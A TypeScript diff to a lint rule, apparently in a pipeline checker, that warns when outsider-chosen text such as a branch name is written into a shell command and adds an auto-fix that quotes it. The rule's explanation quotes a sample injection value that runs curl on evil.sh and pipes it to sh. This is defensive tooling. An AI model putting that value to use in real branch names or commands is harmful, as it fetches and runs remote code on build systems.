@@ -1,24 +1,30 @@
-import { outsidersAtUpload } from '../../../attributes/outsiders.ts'
+import { type Outsiders, outsidersAtUpload } from '../../../attributes/outsiders.ts'
 import { type FilledIn, filledIn, variableSpan } from '../../../attributes/filled-in-texts.ts'
-import type { DiagnosticCode } from '../../../model/generated/codes.ts'
 import type { Graph, Node } from '../../../model/graph.ts'
-import type { Finding, Rule } from '../../rule.ts'
+import type { Finding, ReadShell, Rule } from '../../rule.ts'
+import { leftToShell } from './left-to-shell.ts'
 
 /** A text of somebody outside of the team, filled in at upload. */
 interface OutsiderText extends FilledIn {
   readonly name: string
   readonly chosenBy: string
+  /** All whose text an outsider chooses. */
+  readonly outsiders: Outsiders
 }
 
 /** An outsider's text in what a shell runs: filled in before the shell reads its quotes (docs/spec/upload.md §4.1). */
-export const outsiderInCommand: Rule = outsiderRule('KW6001', isCommand, ({ name, chosenBy }) => ({
-  message: `the upload writes $${name} into a command, where a shell runs it`,
-  why: `${chosenBy} chooses that text: a branch named x";curl$\{IFS}evil.sh|sh;" is legal, and no quotes hold it`,
-  hint: {
-    typescript: `write the command as plain text with "$${name}" in double quotes: the shell reads the variable when the job runs`,
-    yaml: `write "$$${name}" in double quotes: the shell reads the variable when the job runs`,
-  },
-}))
+export const outsiderInCommand: Rule = {
+  ...outsiderRule('KW6001', isCommand, ({ name, chosenBy, text, outsiders, readShell }) => ({
+    message: `the upload writes $${name} into a command, where a shell runs it`,
+    why: `${chosenBy} chooses that text: a branch named x";curl$\{IFS}evil.sh|sh;" is legal, and no quotes hold it`,
+    hint: {
+      typescript: `write the command as plain text with "$${name}" in double quotes: the shell reads the variable when the job runs`,
+      yaml: `write "$$${name}" in double quotes: the shell reads the variable when the job runs`,
+    },
+    mend: leftToShell(text, (one) => outsiders.has(one), readShell, { isQuoted: true }),
+  })),
+  mendsByShell: true,
+}
 
 /** An outsider's text that decides which agent runs a job. */
 export const outsiderInAgents: Rule = outsiderRule(
@@ -48,21 +54,28 @@ export const outsiderHandedOn: Rule = {
   isOptional: true,
 }
 
-type Words = Pick<Finding, 'message' | 'why' | 'hint'>
+type Words = Pick<Finding, 'message' | 'why' | 'hint' | 'mend'>
 
 function outsiderRule(
-  code: DiagnosticCode & `KW6${string}`,
+  code: Rule['code'],
   isThere: (text: FilledIn & { readonly node: Node }) => boolean,
-  words: (text: OutsiderText) => Words,
+  words: (text: OutsiderText & { readonly readShell: ReadShell }) => Words,
 ): Rule {
   return {
     code,
     severity: 'warning',
-    *check(graph) {
+    *check(graph, { readShell }) {
       for (const found of outsiderTexts(graph)) {
         const { node, path, target, text } = found
         if (node && isThere({ ...found, node }))
-          yield { node, path, target, mistake: text, span: variableSpan(found.name, text), ...words(found) }
+          yield {
+            node,
+            path,
+            target,
+            mistake: text,
+            span: variableSpan(found.name, text),
+            ...words({ ...found, readShell }),
+          }
       }
     },
   }
@@ -72,7 +85,7 @@ function* outsiderTexts(graph: Graph): Iterable<OutsiderText> {
   const outsiders = outsidersAtUpload(graph)
   for (const text of filledIn(graph)) {
     const name = text.names.find((one) => outsiders.has(one))
-    if (name !== undefined) yield { ...text, name, chosenBy: outsiders.get(name) as string }
+    if (name !== undefined) yield { ...text, name, chosenBy: outsiders.get(name) as string, outsiders }
   }
 }
 
